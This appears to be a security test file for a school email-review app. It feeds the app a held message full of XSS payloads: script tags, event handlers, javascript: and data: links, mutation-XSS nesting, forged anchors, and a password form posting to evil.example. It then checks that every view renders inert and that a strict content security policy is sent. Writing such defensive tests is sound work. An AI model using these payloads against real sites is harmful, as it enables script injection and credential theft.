// A held message written to attack the DSL who opens it: script, event handlers, javascript: and data: links, remote
// images, CSS, meta refresh, <base>, forms and mis-nested tags to confuse the marks, in every field the app shows.
// Every page that shows it is parsed and checked element by element: nothing active, nothing remote, nothing forged.
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import { Parser } from 'htmlparser2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding, MessagePart } from '../../src/classifier/types.js';
import type { NewHold } from '../../src/gateway/hold-store.js';
import { newHoldId } from '../../src/gateway/ids.js';
import { addUser, get, signIn, startHarness, type Harness, type SignedIn } from '../gateway/review/fixtures.js';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)>',
  '<a href="javascript:alert(4)">click</a>',
  '"><script>alert(5)</script>',
  "'><img src=//evil.example/p.png>",
  '<iframe src=//evil.example/></iframe>',
];

const HTML_BODY = [
  '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>body{background:url(https://evil.example/bg.png)} p{width:expression(alert(6))}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><script src="https://evil.example/x.js"></script></head>',
  '<body onload="alert(7)" background="https://evil.example/b.png">',
  '<p style="background:url(https://evil.example/s.png)">Dear Sam,</p>',
  '<p>Text me <b>on <i>07700</b> 900123</i> tonight</p>',
  '<img src="https://evil.example/track.png" alt="<script>alert(8)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+">',
  '<a href="javascript:alert(10)">homework</a> <a href="data:text/html,<script>alert(11)</script>">notes</a>',
  '<svg><script>alert(12)</script><foreignObject><img src=x onerror=alert(13)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(14)></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example/">Sign in again</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video>',
  '<picture><source srcset="https://evil.example/p.png"><img src="https://evil.example/q.png"></picture>',
  '<table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>',
  '<mark class="finding sev-high" id="finding-1" data-ch="guess">forged highlight</mark>',
  '<span class="anchor" id="about-finding-1">forged anchor</span>',
  '<noscript><p title="</noscript><img src=x onerror=alert(15)>"></noscript>',
  '<textarea><img src=x onerror=alert(16)></textarea>',
  '<!--<img src=x onerror=alert(17)>--><p>See you <b>Saturday',
  '</body></html>',
].join('\n');

const PHONE_IN_HTML = '07700</b> 900123';

let h: Harness;
let me: SignedIn;
let hold: NewHold;

async function hostileHold(): Promise<NewHold> {
  const subject = `Trip ${PAYLOADS[0]} ${PAYLOADS[1]}`;
  const text = `Dear Sam, ${PAYLOADS.join(' ')}\nText me on 07700 900123 tonight\n`;
  const raw = await new MailComposer({
    from: { name: `Mr ${PAYLOADS[4]} Smith`, address: 'j.smith@oakfield.sch.uk' },
    to: 'pupil.one@students.oakfield.sch.uk',
    cc: { name: PAYLOADS[2] as string, address: 'other@oakfield.sch.uk' },
    subject,
    text,
    html: HTML_BODY,
    attachments: [
      { filename: `${PAYLOADS[0]}.pdf`, content: 'x' },
      { filename: '<img src=x onerror=alert(18)>.png', content: 'y' },
    ],
  })
    .compile()
    .build();
  const parts: MessagePart[] = [
    { kind: 'subject', source: 'subject', offset: 0, text: subject },
    { kind: 'body', source: 'text', offset: 0, text },
    { kind: 'html', source: 'html', offset: 0, text: HTML_BODY },
    { kind: 'attachment-name', source: 'attachments', offset: 0, text: `${PAYLOADS[0]}.pdf` },
  ];
  const finding = (partIndex: number, start: number, end: number): Finding => {
    const part = parts[partIndex] as MessagePart;
    return {
      rule: `rule-${PAYLOADS[1]}`,
      category: 'contact-details',
      severity: 'high',
      text: part.text.slice(start, end),
      normalised: `${PAYLOADS[3]} 07700900123`,
      start,
      end,
      part: part.kind,
      partIndex,
      score: 10,
      explain: `Explained ${PAYLOADS[0]}`,
      advice: `Advice ${PAYLOADS[2]}`,
      guidance: `Guidance ${PAYLOADS[5]}`,
    };
  };
  const phoneStart = HTML_BODY.indexOf(PHONE_IN_HTML);
  const findings = [
    finding(0, 5, 5 + (PAYLOADS[0] as string).length),
    finding(1, text.indexOf('07700'), text.indexOf('07700') + 12),
    // Across mis-nested tags in the HTML source.
    finding(2, phoneStart, phoneStart + PHONE_IN_HTML.length),
    // Starting inside a tag and ending inside another: offsets the classifier never gives, but a mark must not break out.
    finding(2, HTML_BODY.indexOf('<img src="https'), HTML_BODY.indexOf('alt=') + 10),
    finding(3, 0, 8),
  ];
  const receivedAt = new Date();
  return {
    id: newHoldId(receivedAt),
    receivedAt,
    envelope: { mailFrom: 'j.smith@oakfield.sch.uk', rcptTo: ['pupil.one@students.oakfield.sch.uk'] },
    recipients: [{ address: `pupil.one@students.oakfield.sch.uk`, class: 'pupil' }],
    from: `Mr ${PAYLOADS[4]} Smith <j.smith@oakfield.sch.uk>`,
    subject,
    reason: 'flagged',
    verdict: {
      action: 'hold',
      score: 50,
      categories: ['contact-details'],
      findings,
      parts,
      problems: [`Problem ${PAYLOADS[6]}`],
    },
    severity: 'high',
    raw,
  };
}

interface Element {
  name: string;
  attribs: Record<string, string>;
}

function elementsOf(page: string): { elements: Element[]; title: string } {
  const elements: Element[] = [];
  let title = '';
  let inTitle = false;
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        elements.push({ name, attribs });
        if (name === 'title') inTitle = true;
      },
      onclosetag(name) {
        if (name === 'title') inTitle = false;
      },
      ontext(text) {
        if (inTitle) title += text;
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(page);
  parser.end();
  return { elements, title };
}

const FORBIDDEN_ELEMENTS = [
  'script',
  'style',
  'iframe',
  'frame',
  'object',
  'embed',
  'base',
  'img',
  'svg',
  'math',
  'video',
  'audio',
  'source',
  'picture',
  'noscript',
  'template',
  'applet',
];
const REMOTE_ATTRIBUTES = ['src', 'srcset', 'background', 'poster', 'data', 'formaction', 'xlink:href', 'style'];

/** Every rule a page showing hostile mail must keep. Returns the breaches, described. */
function breaches(page: string): string[] {
  const { elements } = elementsOf(page);
  const found: string[] = [];
  const ids = new Map<string, number>();
  for (const el of elements) {
    const describe = `<${el.name} ${JSON.stringify(el.attribs)}>`;
    if (FORBIDDEN_ELEMENTS.includes(el.name)) found.push(`element ${describe}`);
    for (const [name, value] of Object.entries(el.attribs)) {
      if (name.startsWith('on')) found.push(`event handler ${describe}`);
      if (REMOTE_ATTRIBUTES.includes(name)) found.push(`attribute ${name} on ${describe}`);
      if ((name === 'href' || name === 'action') && !/^(\/(?![/\\])|#|\?)/.test(value)) found.push(`link ${describe}`);
      if (name === 'http-equiv') found.push(`meta ${describe}`);
      if (name === 'id') ids.set(value, (ids.get(value) ?? 0) + 1);
    }
    if (el.name === 'link' && (el.attribs.rel !== 'stylesheet' || el.attribs.href !== '/static/app.css'))
      found.push(`link ${describe}`);
    if (
      el.name === 'input' &&
      !['hidden', 'checkbox', 'email', 'password', 'text', 'search', 'date'].includes(el.attribs.type ?? '')
    )
      found.push(`input ${describe}`);
    if (el.name === 'form' && !(el.attribs.action ?? '').startsWith('/')) found.push(`form ${describe}`);
  }
  for (const [id, n] of ids) if (n > 1) found.push(`id "${id}" used ${n} times (a forged anchor)`);
  return found;
}

beforeAll(async () => {
  h = await startHarness();
  await addUser(h.store, 'dsl@oakfield.sch.uk', ['dsl']);
  me = await signIn(h.app, 'dsl@oakfield.sch.uk');
  hold = await hostileHold();
  await h.store.putHold(hold);
  // A second hostile message from the same sender, so the "earlier messages" list shows the first one's subject.
  const later = await hostileHold();
  await h.store.putHold({
    ...later,
    id: newHoldId(new Date(Date.now() + 1000)),
    receivedAt: new Date(Date.now() + 1000),
  });
});
afterAll(async () => h.close());

describe('a hostile held message', () => {
  it.each([
    ['the formatted view', () => `/holds/${hold.id}?view=html`],
    ['the plain-text view', () => `/holds/${hold.id}?view=text`],
    ['the queue', () => '/?state=all'],
    ['a search that finds it', () => `/?state=all&q=${encodeURIComponent('<script>')}`],
    ['the audit log', () => `/audit?hold=${hold.id}`],
  ])('renders inert in %s', async (_label, url) => {
    await h.app.inject({
      method: 'POST',
      url: `/holds/${hold.id}/findings/1/not-a-concern`,
      headers: { cookie: me.cookie },
      payload: { _csrf: me.csrf },
    });
    const response = await get(h.app, me, url());
    expect(response.statusCode).toBe(200);
    expect(breaches(response.body)).toEqual([]);
    expect(response.body).not.toContain('evil.example/track.png"');
    expect(response.body).not.toMatch(/<script/i);
  });

  it('shows the hostile text as text, so the DSL can see what was sent', async () => {
    const response = await get(h.app, me, `/holds/${hold.id}?view=text`);
    expect(response.body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    const { title } = elementsOf(response.body);
    expect(title).toContain('<script>alert(1)</script>');
  });

  it('marks the flagged phone number across mis-nested tags with the app own mark, once per anchor', async () => {
    const response = await get(h.app, me, `/holds/${hold.id}?view=html`);
    const { elements } = elementsOf(response.body);
    const marks = elements.filter((e) => e.name === 'mark');
    expect(marks.length).toBeGreaterThan(0);
    for (const mark of marks) {
      expect(mark.attribs.class).toMatch(/^finding sev-(low|medium|high)$/);
      expect(mark.attribs['data-ch']).toBeUndefined();
    }
    expect(response.body).not.toContain('forged highlight</mark>');
    expect(elements.filter((e) => e.attribs.id === 'finding-3')).toHaveLength(1);
  });

  it('keeps pictures and links as words: the address is shown, never fetched or followed', async () => {
    const response = await get(h.app, me, `/holds/${hold.id}?view=html`);
    expect(response.body).toMatch(/class="inert-link" title="Link to javascript:alert\(10\)"/);
    expect(response.body).toContain('[picture: &lt;script&gt;alert(8)&lt;/script&gt;]');
  });

  it('sends a content security policy that forbids script, inline style, plugins, frames and a <base> change', async () => {
    const response = await get(h.app, me, `/holds/${hold.id}?view=html`);
    const csp = String(response.headers['content-security-policy']);
    const directives = new Map(
      csp.split(';').map((d) => {
        const [name, ...values] = d.trim().split(/\s+/);
        return [name, values.join(' ')] as const;
      }),
    );
    expect(directives.get('default-src')).toBe("'none'");
    expect(directives.get('script-src')).toBe("'none'");
    expect(directives.get('style-src')).toBe("'self'");
    expect(directives.get('base-uri')).toBe("'none'");
    expect(directives.get('form-action')).toBe("'self'");
    expect(directives.get('frame-ancestors')).toBe("'none'");
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    expect(directives.get('img-src') ?? "'none'").not.toMatch(/https?:|data:/);
  });

  it('downloads the original only as an attachment the browser will not render or sniff', async () => {
    const response = await get(h.app, me, `/holds/${hold.id}/raw`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="held-[0-9A-Z-]+\.eml"$/);
    expect(response.headers['content-type']).toMatch(/^message\/rfc822/);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
  });
});
